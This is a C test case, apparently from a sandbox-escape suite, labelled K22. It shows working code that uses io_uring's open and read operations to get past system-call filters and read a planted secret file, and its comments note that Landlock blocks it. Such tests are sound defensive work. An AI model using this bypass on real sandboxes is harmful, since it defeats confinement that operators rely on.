// id: K22
// title: a file is opened by io_uring, past every filter of system calls
// label: by design: filters of system calls do not see what a ring does
// reference: https://man7.org/linux/man-pages/man7/io_uring.7.html
// versions: none
// measured: plain escaped on Linux 6.18.44
// grants: --allow-fs-read={grant}
// prove: content
// stops: landlock
// plain: EPERM where kernel.io_uring_disabled is set
// note: Landlock holds for the ring as for its owner; a filter that refuses io_uring_setup stops it earlier
#include "attack.h"

#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/syscall.h>

static struct io_uring_params params;
static void *rings, *entries;
static int ring;

/* One request, done when this returns; the result is the request's. */
static int submit(const struct io_uring_sqe* request) {
    unsigned* tail = (unsigned*)((char*)rings + params.sq_off.tail);
    unsigned mask = *(unsigned*)((char*)rings + params.sq_off.ring_mask);
    unsigned slot = *tail & mask;
    ((struct io_uring_sqe*)entries)[slot] = *request;
    ((unsigned*)((char*)rings + params.sq_off.array))[slot] = slot;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) failed("io_uring_enter");
    unsigned* head = (unsigned*)((char*)rings + params.cq_off.head);
    struct io_uring_cqe* answers = (struct io_uring_cqe*)((char*)rings + params.cq_off.cqes);
    int result = answers[*head & *(unsigned*)((char*)rings + params.cq_off.ring_mask)].res;
    __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
    return result;
}

static void attack(void) {
    static char text[256];
    ring = (int)syscall(SYS_io_uring_setup, 4, &params);
    if (ring < 0) failed("io_uring_setup");
    if (!(params.features & IORING_FEAT_SINGLE_MMAP)) exit(1);
    size_t size = params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe);
    rings = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
    entries = mmap(NULL, params.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
    if (rings == MAP_FAILED || entries == MAP_FAILED) failed("mmap");
    struct io_uring_sqe open_it = {.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (unsigned long)secret_path("secret.txt"), .open_flags = O_RDONLY};
    int fd = submit(&open_it);
    if (fd < 0) {
        errno = -fd;
        failed("IORING_OP_OPENAT");
    }
    struct io_uring_sqe read_it = {.opcode = IORING_OP_READ, .fd = fd, .addr = (unsigned long)text, .len = sizeof text - 1};
    int got = submit(&read_it);
    if (got < 0) {
        errno = -got;
        failed("IORING_OP_READ");
    }
    escaped("%s", text);
}
